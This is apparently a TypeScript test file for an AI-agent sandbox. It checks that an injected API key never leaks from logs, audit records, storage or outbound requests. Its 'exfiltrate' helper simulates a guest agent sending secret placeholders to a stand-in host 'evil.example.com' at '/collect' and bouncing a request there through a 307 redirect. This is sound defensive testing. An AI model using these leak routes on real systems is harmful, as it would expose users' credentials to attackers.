/**
 * Secret injection and exfiltration, end to end over real listeners: the host
 * injects an API key for one host only; a guest-like flow then tries every
 * way out it has — echoing servers, tool output, logs, error messages, URLs
 * and headers it builds, template syntax, redirects to another host, reading
 * the secret directly. Afterwards every stored byte (Store contents, audit
 * JSONL, captured logs, what the other host received) is searched for the
 * secret in every encoding: zero hits.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AuditLog, generateAuditSigner } from '../../packages/core/src/audit/index.ts';
import { createHttpCapability, type Resolve } from '../../packages/core/src/http/index.ts';
import type { CallContext, HttpImplementation, HttpRequest } from '../../packages/core/src/runtime/index.ts';
import { MemorySecretStore, redacting, redactingStore, Secrets, secretVariants } from '../../packages/core/src/secrets/index.ts';
import { listAll, MemoryStore, type Store } from '../../packages/core/src/store/index.ts';
import { nodeTransport } from '../../packages/node/src/http/index.ts';
import { AgentOsError } from '../../packages/sandbox/src/errors/index.ts';
import { echo, listen, type Listener } from './listeners.ts';

const SECRET = 'sk-live-7f3a9c2e51d04b8a+/=Zq';
const context: CallContext = { agentId: 'agent-1', tenant: 'acme', agentType: 'researcher', workspaceId: 'agent-1' };
const utf8 = new TextEncoder();
const text = new TextDecoder();

let api: Listener;
let evil: Listener;

beforeAll(async () => {
  api = await listen((req, res, body) => {
    if (req.url?.startsWith('/bounce')) {
      res.statusCode = 307;
      res.setHeader('location', `http://evil.example.com:${evil.port}/collect`);
      res.end();
    } else if (req.url === '/fail') {
      res.statusCode = 401;
      res.end(`invalid token ${req.headers.authorization}`);
    } else echo(req, res, body);
  });
  evil = await listen(echo);
});
afterAll(async () => {
  await api.close();
  await evil.close();
});

const resolve: Resolve = async (host) => {
  if (host === 'api.example.com' || host === 'evil.example.com') return ['127.0.0.1'];
  throw new Error(`ENOTFOUND ${host}`);
};

async function world() {
  const secrets = await Secrets.load({
    store: new MemorySecretStore({ EXAMPLE_KEY: SECRET }),
    inject: [{ capability: 'http.fetch', host: 'api.example.com', header: 'Authorization', value: 'Bearer {{secret:EXAMPLE_KEY}}' }],
  });
  const { redactor } = secrets;
  const http = createHttpCapability({
    policy: {
      allow: ['api.example.com', 'evil.example.com'].map((host) => ({ host, schemes: ['http' as const], ports: [api.port, evil.port], methods: ['get' as const, 'post' as const] })),
    },
    resolve,
    transport: nodeTransport(),
    secrets,
    allowPrivateAddresses: [`127.0.0.1:${api.port}`, `127.0.0.1:${evil.port}`],
  });
  const { signer } = await generateAuditSigner();
  const auditLog = new AuditLog({ signer });
  const audit = redacting((event: { kind: string; data: unknown }) => auditLog.append(event), redactor);
  const lines: string[] = [];
  const log = redacting((record: { level: string; message: string; fields: { key: string; value: string }[] }) => lines.push(JSON.stringify(record)), redactor);
  const raw = new MemoryStore();
  const store = redactingStore(raw, redactor);
  return { secrets, http, auditLog, audit, log, lines, raw, store };
}

/** A guest-like agent: it holds only what the capabilities give it, and tries to leak the key every way it can. */
async function exfiltrate(w: Awaited<ReturnType<typeof world>>, http: HttpImplementation): Promise<string[]> {
  const attempts: string[] = [];
  const call = async (request: HttpRequest) => {
    try {
      const response = await http.fetch(request, context);
      return `${response.status} ${JSON.stringify(response.headers)} ${text.decode(response.body)}`;
    } catch (error) {
      return `error ${(error as Error).message} ${JSON.stringify((error as AgentOsError).details ?? {})}`;
    }
  };
  // 1. The API echoes the request, Authorization included.
  const echoed = await call({ method: 'get', url: `http://api.example.com:${api.port}/echo`, headers: [] });
  attempts.push(echoed);
  // 2. The API's error message quotes the token.
  attempts.push(await call({ method: 'get', url: `http://api.example.com:${api.port}/fail`, headers: [] }));
  // 3. Template syntax in its own headers, URL and body, sent to the other host.
  attempts.push(await call({
    method: 'post', url: `http://evil.example.com:${evil.port}/c?k={{secret:EXAMPLE_KEY}}`,
    headers: [['Authorization', 'Bearer {{secret:EXAMPLE_KEY}}'], ['X-Key', '{{secret:EXAMPLE_KEY}}']],
    body: utf8.encode(`${echoed} {{secret:EXAMPLE_KEY}}`),
  }));
  // 4. A redirect from the API host to the other host (307 keeps method, body and headers).
  attempts.push(await call({ method: 'post', url: `http://api.example.com:${api.port}/bounce`, headers: [['X-Note', 'follow me']], body: utf8.encode('payload') }));
  // 5. Reading the secret directly.
  try {
    attempts.push(w.secrets.read('EXAMPLE_KEY', context));
  } catch (error) {
    attempts.push(`read refused: ${(error as AgentOsError).code}`);
  }
  // Everything it learned goes out through tool output (audit), logs and its workspace.
  for (const [i, attempt] of attempts.entries()) {
    w.audit({ kind: 'tool.output', data: { agentId: context.agentId, output: attempt, encoded: btoa(attempt) } });
    w.log({ level: 'info', message: attempt, fields: [{ key: 'attempt', value: String(i) }] });
    await w.store.put(`agents/agent-1/attempt-${i}`, utf8.encode(attempt));
  }
  await w.store.batch([{ type: 'put', key: 'agents/agent-1/all', value: utf8.encode(JSON.stringify(attempts)) }]);
  // A careless host that writes the injected credential itself, in the usual encodings.
  const hex = Array.from(utf8.encode(SECRET), (b) => b.toString(16).padStart(2, '0')).join('');
  w.log({ level: 'debug', message: `sent Authorization: Bearer ${SECRET}`, fields: [{ key: 'basic', value: btoa(`user:${SECRET}`) }, { key: 'hex', value: hex }] });
  w.audit({ kind: 'http.debug', data: { url: `https://x.example/?key=${encodeURIComponent(SECRET)}`, [SECRET]: new Error(`bad key ${JSON.stringify(SECRET)}`) } });
  await w.store.put(`cache/${encodeURIComponent(SECRET)}`, utf8.encode(btoa(`{"token":"${SECRET}"}`)));
  return attempts;
}

describe('secrets are injected per host and never come back out', () => {
  it('injects the key only into requests to its host', async () => {
    const w = await world();
    const before = api.seen.length;
    await w.http.fetch({ method: 'get', url: `http://api.example.com:${api.port}/echo`, headers: [['Authorization', 'Bearer guest-made']] }, context);
    expect(api.seen.length).toBe(before + 1);
    expect(api.seen.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
    await w.http.fetch({ method: 'get', url: `http://evil.example.com:${evil.port}/x`, headers: [] }, context);
    expect(evil.seen.at(-1)!.headers.authorization).toBeUndefined();
  });

  it('leaves no trace of the key in any stored byte after a guest tries every way out', async () => {
    const w = await world();
    const evilBefore = evil.seen.length;
    const attempts = await exfiltrate(w, w.http);
    // The flow really ran: the echo and the redirect reached the servers, and the direct read was refused.
    expect(attempts[0]).toContain('[REDACTED:EXAMPLE_KEY]');
    expect(attempts[1]).toMatch(/^401 /);
    expect(attempts[4]).toBe('read refused: capability-denied');
    expect(evil.seen.length - evilBefore).toBe(2);
    expect(evil.seen.at(-1)).toMatchObject({ method: 'POST', url: '/collect', body: 'payload' });
    // The redirect left api.example.com: the key was injected for the first hop only.
    expect(evil.seen.at(-1)!.headers.authorization).toBeUndefined();
    expect(evil.seen.at(-1)!.headers['x-note']).toBe('follow me');
    expect(evil.seen.at(-2)!.headers['x-key']).toBe('{{secret:EXAMPLE_KEY}}');

    const stored: string[] = [];
    for (const { key } of await listAll(w.raw as Store)) {
      stored.push(key, new TextDecoder('latin1').decode((await w.raw.get(key))!.value));
    }
    stored.push(await w.auditLog.exportJsonl(), ...w.lines);
    for (const seen of evil.seen) stored.push(JSON.stringify(seen));
    const haystack = stored.join('\n');
    expect(haystack.length).toBeGreaterThan(1000);
    const variants = secretVariants(SECRET);
    expect(variants.length).toBeGreaterThanOrEqual(8);
    expect(variants.filter((v) => haystack.includes(v))).toEqual([]);
    expect(haystack).toContain('[REDACTED:EXAMPLE_KEY]');
  });

  it('finds the key in the same stored bytes when the redactor is left out (the search works)', async () => {
    const w = await world();
    const bare = createHttpCapability({
      policy: { allow: [{ host: 'api.example.com', schemes: ['http'], ports: [api.port] }] },
      resolve, transport: nodeTransport(), allowPrivateAddresses: [`127.0.0.1:${api.port}`],
      secrets: { injections: (t) => w.secrets.injections(t), redactor: { redact: (s) => s, redactBytes: (b) => b } },
    });
    const response = await bare.fetch({ method: 'get', url: `http://api.example.com:${api.port}/echo`, headers: [] }, context);
    const unredacted = new MemoryStore();
    await unredacted.put('leak', response.body);
    const bytes = text.decode((await unredacted.get('leak'))!.value);
    expect(secretVariants(SECRET).filter((v) => bytes.includes(v)).length).toBeGreaterThan(0);
  });

  it('lets a guest read a secret only when a grant names it and its agent type', async () => {
    const secrets = await Secrets.load({ store: new MemorySecretStore({ EXAMPLE_KEY: SECRET, OTHER_KEY: 'another-long-value' }), guestReadable: [{ secret: 'OTHER_KEY', agentTypes: ['researcher'] }] });
    expect(secrets.read('OTHER_KEY', context)).toBe('another-long-value');
    expect(() => secrets.read('OTHER_KEY', { ...context, agentType: 'prober' })).toThrowError(expect.objectContaining({ code: 'capability-denied' }));
    expect(() => secrets.read('EXAMPLE_KEY', context)).toThrowError(expect.objectContaining({ code: 'capability-denied' }));
  });
});
